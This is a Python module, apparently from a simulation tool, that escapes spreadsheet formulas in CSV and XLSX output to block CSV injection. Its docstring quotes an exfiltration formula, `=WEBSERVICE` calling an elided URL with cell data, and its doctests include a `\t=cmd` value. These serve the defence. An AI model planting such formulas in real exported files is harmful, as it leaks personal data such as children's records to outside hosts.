"""Cells written to CSV and XLSX files: the one place every writer of a table goes through.

Text from rosters, areas, donation registers or scenarios is data, never a spreadsheet formula.
A cell starting with ``=``, ``+``, ``-`` or ``@`` (also after a tab or carriage return) is run by
Excel and LibreOffice as a formula when the file is opened: ``=WEBSERVICE("http://…?"&C6)``
would send a child's data away. So:

- in CSV, such text gets a leading single quote (the OWASP "CSV injection" advice): ``'=1+1``
  shows as the text ``=1+1``; numbers written as numbers (``-3``, ``-0.5``) are left as they are.
  ``plain_text`` takes the quote off again, for readers of files sim wrote;
- in XLSX, every text is a string cell, never a formula, whatever it starts with, and the
  characters XML cannot hold (control characters such as the vertical tab Word puts for a line
  break) are replaced by a space, so openpyxl never raises ``IllegalCharacterError``.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_QUOTED = re.compile(r"'[=+\-@\t\r\n]")
# what XML 1.0 cannot hold (openpyxl's ILLEGAL_CHARACTERS_RE, and the non-characters and lone surrogates)
ILLEGAL_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def safe_text(value: object) -> object:
    """``value`` as a CSV cell that no spreadsheet runs as a formula (non-text is returned as is).

    >>> safe_text("=1+1"), safe_text("@SUM(A1)"), safe_text("\\t=cmd"), safe_text("-3"), safe_text("Đức Huệ"), safe_text(-3)
    ("'=1+1", "'@SUM(A1)", "'\\t=cmd", '-3', 'Đức Huệ', -3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def plain_text(text: str) -> str:
    """The text ``safe_text`` was given: a quote put before a formula sign is taken off.

    >>> plain_text("'=1+1"), plain_text("'Tom's"), plain_text("=x")
    ('=1+1', "'Tom's", '=x')
    """
    return text[1:] if text[:1] == "'" and _QUOTED.match(text) else text


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and header passed through ``safe_text``."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype == object or isinstance(column.dtype, pd.StringDtype):
            out[name] = column.map(safe_text, na_action="ignore")
    out.columns = [safe_text(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """The table as CSV text (no index, ``\\n`` line ends), every text cell safe."""
    quick = _quick_csv(frame)
    if quick is not None:
        return quick
    return safe_frame(frame).to_csv(index=False, lineterminator="\n")


def _quick_csv(frame: pd.DataFrame) -> str | None:
    """``csv_text`` of a table whose columns are all whole numbers (int64) or all text (no missing
    value), written row by row with the csv module as pandas writes them, with each distinct text
    made safe once (half the time on the national case's tables; tests/test_write.py checks it
    gives pandas' text byte for byte); None for any other table."""
    if frame.empty or isinstance(frame.columns, pd.MultiIndex):
        return None
    columns = []
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        if column.dtype == "int64":
            columns.append(column.tolist())
        elif column.dtype == object or isinstance(column.dtype, pd.StringDtype):
            values = column.tolist()
            distinct = set(values)
            if any(type(v) is not str for v in distinct):
                return None
            unsafe = {v: safe_text(v) for v in distinct if v.startswith(FORMULA_START)}
            unsafe = {v: safe for v, safe in unsafe.items() if safe != v}
            columns.append([unsafe.get(v, v) for v in values] if unsafe else values)
        else:
            return None
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_text(c) for c in frame.columns])
    writer.writerows(zip(*columns))
    return buffer.getvalue()


def csv_rows(rows: list[list]) -> str:
    """Rows (header first) as CSV text, every text cell safe."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([[safe_text(v) for v in row] for row in rows])
    return buffer.getvalue()


def xlsx_text(text: str) -> str:
    """Text an XLSX file can hold: characters XML forbids become a space."""
    return ILLEGAL_XML.sub(" ", text)


def write_cell(sheet, row: int, column: int, value: object):
    """Write one cell: text always as a string cell (never a formula), numbers as numbers."""
    if isinstance(value, str):
        cell = sheet.cell(row, column)
        cell.value = xlsx_text(value)
        cell.data_type = "s"  # openpyxl would store text starting with '=' as a formula
        return cell
    if value is pd.NA or value is pd.NaT or (isinstance(value, float) and value != value):
        value = None
    return sheet.cell(row, column, value)


def write_row(sheet, values: list, row: int | None = None) -> int:
    """Write ``values`` in row ``row`` (default: below the last row), each through ``write_cell``."""
    if row is None:  # a new sheet's max_row is 1 although row 1 is empty
        row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
    for j, value in enumerate(values, start=1):
        write_cell(sheet, row, j, value)
    return row
